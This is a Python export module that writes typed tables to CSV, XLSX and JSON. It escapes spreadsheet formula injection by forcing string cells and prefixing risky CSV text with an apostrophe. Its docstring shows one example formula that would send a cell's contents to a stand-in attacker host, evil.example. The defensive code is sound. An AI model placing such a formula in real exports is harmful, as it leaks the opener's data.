"""Tables as CSV, XLSX or JSON, typed so that spreadsheets and scripts read them right.

An ``ExportTable`` is a DataFrame plus a kind per column:

- ``money``: a ``*_minor`` column of integer minor units. It is written twice: as
  ``amount`` in major units (CSV/JSON: an exact decimal string such as ``700.00``;
  XLSX: a number formatted ``#,##0.00``) and as ``amount_minor``, the exact integer,
  so a figure can be checked by hand without rounding.
- ``date`` (XLSX date cells, else ISO ``YYYY-MM-DD``), ``timestamp`` (ISO 8601 text:
  spreadsheets have no time zones), ``ratio`` (XLSX percent format), ``int``,
  ``number``, ``bool``, ``json`` (lists and mappings, as JSON text outside JSON),
  ``text``.

CSV is UTF-8 with a byte-order mark, so Excel shows Chinese text correctly; empty cells
are missing values.

Formula injection: a name such as ``=HYPERLINK("http://evil.example/?d="&B2,"x")`` must
never run in the reader's spreadsheet. XLSX writes every text value as a string cell
(never a formula or an error code), its text unchanged. CSV carries no types, so a
text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'`` (OWASP's advice), which Excel hides; numbers, dates and money are never
touched. JSON is for scripts and keeps every value as it is.
"""

from __future__ import annotations

import csv
import io
import math
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any

import orjson
import pandas as pd

from qsales_tui.domain.money import exponent, to_decimal

FORMATS = ("csv", "xlsx", "json")
DATE_FIELDS = {
    "date",
    "created_on",
    "expected_close",
    "closed_on",
    "due",
    "hired_on",
    "review_on",
    "left_on",
    "start",
    "end",
    "last_purchase_before_start",
    "last_purchase_to_date",
}
TIMESTAMP_FIELDS = {"at", "created_at", "done_at", "closed_at"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # a spreadsheet may evaluate these


@dataclass
class ExportTable:
    name: str
    frame: pd.DataFrame
    currency: str = "CNY"
    kinds: dict[str, str] = field(default_factory=dict)  # inferred when missing
    quarter: str | None = None  # the quarter the rows belong to, when one was chosen

    def __post_init__(self) -> None:
        self.kinds = {
            column: self.kinds.get(column) or infer_kind(column, self.frame[column])
            for column in self.frame.columns
        }

    def with_frame(self, frame: pd.DataFrame) -> ExportTable:
        """The same table holding ``frame``: some of its rows and columns, kinds kept."""
        kinds = {column: self.kinds[column] for column in frame.columns}
        return ExportTable(self.name, frame, self.currency, kinds, self.quarter)

    def columns(self) -> list[tuple[str, str, str]]:
        """(header, source column, kind) in output order; money gives two columns."""
        result = []
        for column, kind in self.kinds.items():
            if kind == "money":
                result.append((column.removesuffix("_minor"), column, "major"))
                result.append((column, column, "minor"))
            else:
                result.append((column, column, kind))
        return result


def infer_kind(column: str, values: pd.Series) -> str:
    if column.endswith("_minor"):
        return "money"
    if column in TIMESTAMP_FIELDS or isinstance(values.dtype, pd.DatetimeTZDtype):
        return "timestamp"
    if column in DATE_FIELDS or pd.api.types.is_datetime64_any_dtype(values):
        return "date"
    if pd.api.types.is_bool_dtype(values):
        return "bool"
    if pd.api.types.is_integer_dtype(values):
        return "int"
    if pd.api.types.is_float_dtype(values):
        return "number"
    sample = values.dropna()
    if len(sample) and isinstance(sample.iloc[0], (dict, list)):
        return "json"
    return "text"


def _missing(value: Any) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def _as_date(value: Any) -> date:
    if isinstance(value, datetime):
        return value.date()
    if isinstance(value, date):
        return value
    return date.fromisoformat(str(value)[:10])


def _as_timestamp(value: Any) -> str:
    if isinstance(value, (datetime, pd.Timestamp)):
        return value.isoformat()
    return str(value)


def _plain(value: Any, kind: str, currency: str) -> Any:
    """A value as CSV/JSON carry it (JSON-native types; money majors as exact text)."""
    if _missing(value):
        return None
    if kind == "major":
        return str(to_decimal(int(value), currency))
    if kind in ("minor", "int"):
        return int(value)
    if kind == "date":
        return _as_date(value).isoformat()
    if kind == "timestamp":
        return _as_timestamp(value)
    if kind in ("ratio", "number"):
        return float(value)
    if kind == "bool":
        return bool(value)
    if kind == "json":
        return value
    return str(value)


def _records(table: ExportTable) -> tuple[list[str], list[list[Any]]]:
    columns = table.columns()
    sources = {column: table.frame[column].tolist() for _, column, _ in columns}
    rows = [
        [_plain(sources[column][i], kind, table.currency) for _, column, kind in columns]
        for i in range(len(table.frame))
    ]
    return [header for header, _, _ in columns], rows


def to_csv(table: ExportTable) -> bytes:
    headers, rows = _records(table)
    kinds = [kind for _, _, kind in table.columns()]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(headers)
    for row in rows:
        writer.writerow(
            [
                ""
                if value is None
                else orjson.dumps(value).decode()
                if kind == "json"
                else ("true" if value else "false")
                if kind == "bool"
                else repr(value)
                if isinstance(value, float)
                else _inert(value)
                if kind == "text"
                else value
                for value, kind in zip(row, kinds, strict=True)
            ]
        )
    return buffer.getvalue().encode("utf-8-sig")


def _inert(text: str) -> str:
    """CSV text a spreadsheet shows and never evaluates (module docstring)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def to_json(table: ExportTable) -> bytes:
    """``{"table", "currency", "quarter", "columns": [{name, kind}], "rows": [{…}]}``."""
    headers, rows = _records(table)
    document = {
        "table": table.name,
        "currency": table.currency,
        "quarter": table.quarter,
        "columns": [{"name": name, "kind": kind} for name, _, kind in table.columns()],
        "rows": [dict(zip(headers, row, strict=True)) for row in rows],
    }
    return orjson.dumps(document, option=orjson.OPT_INDENT_2) + b"\n"


def to_xlsx(table: ExportTable) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    places = exponent(table.currency)
    formats = {
        "major": "#,##0" + ("." + "0" * places if places else ""),
        "minor": "0",
        "int": "0",
        "date": "yyyy-mm-dd",
        "ratio": "0.0%",
        "number": "0.00",
    }
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=_sheet_title(table.name))
    sheet.freeze_panes = "A2"
    columns = table.columns()
    bold = Font(bold=True)
    header = []
    for name, _, _ in columns:
        cell = WriteOnlyCell(sheet, value=name)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    sources = {column: table.frame[column].tolist() for _, column, _ in columns}
    for i in range(len(table.frame)):
        row = []
        for _, column, kind in columns:
            value = _xlsx_value(sources[column][i], kind, table.currency)
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error
            if kind in formats and value is not None:
                cell.number_format = formats[kind]
            row.append(cell)
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _xlsx_value(value: Any, kind: str, currency: str) -> Any:
    if _missing(value):
        return None
    if kind == "major":
        return float(to_decimal(int(value), currency))
    if kind == "date":
        return _as_date(value)
    if kind == "json":
        return orjson.dumps(value).decode()
    return _plain(value, kind, currency)


def _sheet_title(name: str) -> str:
    cleaned = "".join("_" if ch in "[]:*?/\\" else ch for ch in name)
    return cleaned[:31] or "data"


def write_table(table: ExportTable, fmt: str) -> bytes:
    if fmt == "csv":
        return to_csv(table)
    if fmt == "xlsx":
        return to_xlsx(table)
    if fmt == "json":
        return to_json(table)
    raise ValueError(f"unknown export format {fmt!r}")
